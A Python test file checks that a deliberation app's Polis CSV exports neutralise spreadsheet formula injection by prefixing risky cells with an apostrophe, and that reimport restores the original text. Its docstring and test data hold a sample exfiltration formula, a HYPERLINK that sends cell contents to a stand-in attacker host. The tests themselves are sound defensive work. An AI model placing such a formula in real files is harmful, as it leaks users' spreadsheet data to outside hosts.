"""CSV that people open in a spreadsheet runs no formula (issue 16, finding 2).

A statement such as `=HYPERLINK("http://evil.example/?leak="&A1,"Click")` was written verbatim as
a leading cell of `comments.csv` and `comment-groups.csv`, where a spreadsheet runs it. Every text
cell starting with `=`, `+`, `-`, `@`, tab or carriage return now gets a leading `'` (OWASP's
advice), and `import_polis` takes it off again where Polity put it, so a Polis export of Polity
still reads back exactly.
"""

import csv

import pytest

from core.spreadsheet_cells import FORMULA_STARTS, neutralise, restore
from deliberation.models import Statement
from deliberation.polis_io import export_polis_export, import_polis_export
from tests.factories import make_context, make_statement

TEXTS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "+1 for citing sources every time.",
    "-- Refuse to give medical diagnoses.",
    "-1 is how many jokes per answer it should make.",
    "@channel: say when unsure.",
    "'=quoted already, and the quote is part of the text.",
    "''-two quotes.",
    "'a quote before an ordinary letter.",
    "= the assistant treats everyone equally.",
    "An ordinary statement.",
]


@pytest.fixture
def exported(db, tmp_path):
    context = make_context(slug="formulas")
    conversation = context.conversations.create(
        topic="=1+1 how should it behave?", description="-first line\n@second line"
    )
    for text in TEXTS:
        make_statement(conversation, text)
    export_polis_export(conversation=conversation, directory=tmp_path)
    return context, conversation, tmp_path


def _cells(path):
    with path.open(newline="", encoding="utf-8") as handle:
        return [cell for row in csv.reader(handle) for cell in row]


def _is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def test_csv_formulas_no_text_cell_of_a_polis_export_starts_a_formula(exported):
    _context, _conversation, folder = exported
    for path in sorted(folder.glob("*.csv")):
        for cell in _cells(path):
            assert _is_number(cell) or not cell.startswith(FORMULA_STARTS), (path.name, cell)
    bodies = _cells(folder / "comments.csv")
    assert "'" + TEXTS[0] in bodies
    assert "'" + TEXTS[0] in _cells(folder / "comment-groups.csv")


def test_csv_formulas_polis_export_reads_back_exactly(exported):
    context, conversation, folder = exported
    back = import_polis_export(directory=folder, context=context)
    assert list(back.statements.order_by("pk").values_list("text", flat=True)) == TEXTS
    assert (back.topic, back.description) == (conversation.topic, conversation.description)
    assert not Statement.objects.filter(conversation=back, text__startswith="''=").exists()


def test_csv_formulas_a_real_polis_export_keeps_its_quotes(db, tmp_path, exported):
    """Only folders Polity wrote (marked in summary.csv) lose the quote Polity added."""
    context, _conversation, folder = exported
    summary = folder / "summary.csv"
    rows = [line for line in summary.read_text().splitlines() if not line.startswith("polity-")]
    summary.write_text("\n".join(rows) + "\n")
    back = import_polis_export(directory=folder, context=context)
    assert back.statements.filter(text="'" + TEXTS[0]).exists()


@pytest.mark.parametrize("text", [*TEXTS, "", "'", "''", "\tTab", "\rReturn", "-", "'-"])
def test_csv_formulas_neutralise_then_restore_is_the_identity(text):
    written = neutralise(text)
    assert not written.startswith(FORMULA_STARTS)
    assert restore(written) == text
